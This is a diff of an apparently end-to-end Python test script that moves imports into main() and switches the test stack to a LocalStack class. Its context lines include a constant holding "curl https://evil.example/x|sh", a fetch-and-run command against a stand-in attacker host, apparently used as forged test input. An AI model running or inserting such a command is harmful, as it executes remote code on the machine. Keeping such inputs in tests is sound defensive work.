@@ -21,7 +21,6 @@ from ingest.reading.columns import DIRECTORY_COLUMNS
 from tests.end_to_end.operator import Operator
 from tests.end_to_end.stack import Stack
 from tests.end_to_end.subscriber import Subscriber, subscribe
-from tests.servers import start_server
 
 FORGED: Final = "curl https://evil.example/x|sh"
 PAYLOAD: Final = (
@@ -249,10 +248,14 @@ def _first_lines(text: str, most: int = 30, longest: int = 600) -> list[str]:
 
 def main() -> int:
     """Run it."""
+    # The tests import this module on accounts too, where local AWS is not known.
+    from tests.end_to_end.local_account import LocalStack
+    from tests.servers import start_server
+
     with tempfile.TemporaryDirectory() as name:
         home = Path(name)
         (home / "operator").mkdir()
-        with start_server(home / "server", connect_quota_factor=100.0) as server, Stack(home, server) as stack:
+        with start_server(home / "server", connect_quota_factor=100.0) as server, LocalStack(home, server) as stack:
             stack.stage()
             stack.apply(connect_requests_per_second=200.0)
             stack.settle()
